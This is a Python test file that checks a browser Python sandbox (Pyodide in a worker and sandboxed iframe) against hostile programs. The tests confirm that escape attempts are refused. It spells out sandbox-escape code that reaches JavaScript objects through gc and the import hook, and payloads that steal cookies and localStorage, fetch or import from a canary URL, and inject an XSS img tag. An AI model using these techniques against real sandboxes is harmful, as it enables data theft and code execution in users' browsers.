"""A hostile program reaches neither the page, nor its storage, nor the network.

Two attackers: a Python program, which first has to get out of Python, and JavaScript put
straight into the worker, as if Python had been no obstacle at all.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

GOOD = "print('good')"

#: Ways out of Python: the modules of Pyodide, and any JavaScript object they have left behind.
ESCAPE = """\
import gc, importlib, sys

def attempt(name, what):
    try:
        print(name, "->", what())
    except BaseException as error:
        print(name, "refused:", type(error).__name__, error)

def ways():
    for name in ("js", "pyodide_js"):
        try:
            yield importlib.import_module(name)
        except ImportError as error:
            print("import", name, "refused:", error)
    hook = sys.modules["_pyodide._importhook"]
    yield from hook.jsfinder.jsproxies.values()
    yield from [thing for thing in gc.get_objects() if type(thing).__name__ == "JsProxy"]
"""

SIX = {
    "page": "[way.document.title for way in ways()]",
    "storage": "[way.localStorage.getItem('secret') for way in ways()]",
    "cookies": "[way.document.cookie for way in ways()]",
    "fetch": "[way.fetch(URL) for way in ways()]",
    "import": "[way.constructor.constructor(f'return import({URL!r})')() for way in ways()]",
    "post": "[way.parent.postMessage('pwned', '*') for way in ways()]",
}

#: The same six from a worker's own scope. A worker inside the worker has the browser's own
#: fetch, which ours has replaced.
INSIDE = {
    "page": "typeof document + typeof window + typeof parent",
    "storage": "typeof localStorage + typeof sessionStorage",
    "cookies": "typeof document + typeof cookieStore",
    "IndexedDB": """new Promise((done) => {
        try {
            const asked = indexedDB.open("lockstep");
            asked.onerror = () => done("refused");
            asked.onsuccess = () => done("opened");
        } catch (error) { done("refused") }
    })""",
    "Cache Storage": "(async () => caches.keys())().then(String, () => 'refused')",
    "fetch": "fetch(URL).then(() => 'reached', () => 'refused')",
    "XMLHttpRequest": """new Promise((done) => {
        const request = new XMLHttpRequest();
        request.onload = () => done("reached");
        request.onerror = () => done("refused");
        request.open("GET", URL);
        request.send();
    })""",
    "WebSocket": """new Promise((done) => {
        const socket = new WebSocket(URL.replace("http", "ws"));
        socket.onopen = () => done("reached");
        socket.onerror = () => done("refused");
    })""",
    "import": "import(URL).then(() => 'reached', () => 'refused')",
    "Function": "(async () => Function('return 1')())().then(String, () => 'refused')",
}
REFUSED = {
    **dict.fromkeys(INSIDE, "refused"),
    "page": "undefined" * 3,
    "storage": "undefined" * 2,
    "cookies": "undefined" * 2,
}


@pytest.fixture
def canary():
    """URL of a server that lets everybody in, and the list of what it was asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.end_headers()
            self.wfile.write(b"export default 1")

        def log_message(self, *words):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/canary.js", asked
    server.shutdown()
    server.server_close()


def run(page, code):
    return page.evaluate("code => lockstep.runSource(code)", code)


def keep_secrets(page):
    page.evaluate(
        """() => {
            localStorage.setItem("secret", "treasure");
            document.cookie = "secret=treasure";
            window.posted = [];
            addEventListener("message", (event) => window.posted.push(event.data));
        }"""
    )


def assert_unharmed(page, asked):
    assert asked == []
    assert page.evaluate("window.posted") == []
    assert page.evaluate("localStorage.getItem('secret')") == "treasure"
    assert run(page, GOOD)["stdout"] == "good\n"


def test_a_python_program_is_refused(page, site, canary):
    url, asked = canary
    page.goto(site)
    keep_secrets(page)
    attempts = "".join(f"attempt({what!r}, lambda: {code})\n" for what, code in SIX.items())
    printed = run(page, f"URL = {url!r}\n{ESCAPE}\n{attempts}")["stdout"]
    assert "treasure" not in printed
    assert [what for what in SIX if f"{what} refused:" in printed] == list(SIX)
    assert_unharmed(page, asked)


def test_javascript_in_the_worker_is_refused(page, site, canary):
    url, asked = canary
    page.goto(site)
    keep_secrets(page)
    worker = waiting_worker(page)
    answers = {what: ask_inside(worker, url, INSIDE[what]) for what in INSIDE}
    assert answers == REFUSED
    assert_unharmed(page, asked)


def waiting_worker(page):
    """The worker that the next run will use: the second one, since a run uses up its own."""
    made = []
    page.on("worker", lambda worker: made.append(worker))  # noqa: PLW0108
    run(page, GOOD)
    while len(made) < 2:
        page.wait_for_event("worker")
    return made[1]


def ask_inside(worker, url, expression):
    """The value of a JavaScript expression in a worker that the sandbox's worker makes."""
    script = f"const URL = {url!r}; (async () => postMessage(String(await ({expression}))))()"
    return worker.evaluate(
        """(script) => new Promise((resolve) => {
            const url = "data:text/javascript," + encodeURIComponent(script);
            const inner = new Worker(url, {type: "module"});
            inner.onmessage = ({data}) => resolve(data);
            inner.onerror = () => resolve("refused");
        })""",
        script,
    )


def test_what_the_worker_posts_to_its_parent_goes_nowhere(page, site, canary):
    _, asked = canary
    page.goto(site)
    keep_secrets(page)
    waiting_worker(page).evaluate(
        """() => {
            for (const type of ["ready", "answer", "compiled", "lost", "dropped", "start"]) {
                postMessage({type, id: "", text: "{}", worker: "", message: "pwned"});
            }
        }"""
    )
    assert_unharmed(page, asked)


def test_the_frame_has_an_origin_of_its_own(page, site):
    page.goto(site)
    run(page, GOOD)
    frame = page.frames[1]
    assert frame.evaluate("origin") == "null"
    refused = "() => { try { return parent.document.title } catch (error) { return error.name } }"
    assert frame.evaluate(refused) == "SecurityError"
    assert page.locator("iframe").get_attribute("sandbox") == "allow-scripts"


def test_markup_in_names_and_prints_is_shown_and_not_obeyed(page, site):
    page.goto(site)
    markup = '<img src=x onerror="window.pwned = true">'
    program = f"""\
import asyncio
MARKUP = {markup!r}

async def main():
    print(MARKUP)
    await asyncio.gather(*[asyncio.create_task(asyncio.sleep(1), name=MARKUP) for _ in "ab"])

asyncio.run(main())
"""
    assert markup in run(page, program)["stdout"]
    assert page.get_by_test_id("log").get_by_text(markup).count()
    assert page.locator("main img").count() == 0
    assert page.evaluate("window.pwned") is None


@pytest.mark.parametrize(
    "forged",
    ['{"schema": "lockstep-trace/99"}', "<script>window.pwned = true</script>", '{"events": 1}'],
)
def test_a_forged_trace_is_refused_and_the_next_run_is_good(page, site, forged):
    page.goto(site)
    program = f"import lockstep.trace\nlockstep.trace.Trace.to_json = lambda trace: {forged!r}"
    words = page.evaluate("code => lockstep.runSource(code).catch(String)", program)
    assert isinstance(words, str)
    assert page.locator("#playground").get_attribute("data-state") == "failed"
    assert page.evaluate("window.pwned") is None
    assert run(page, GOOD)["stdout"] == "good\n"
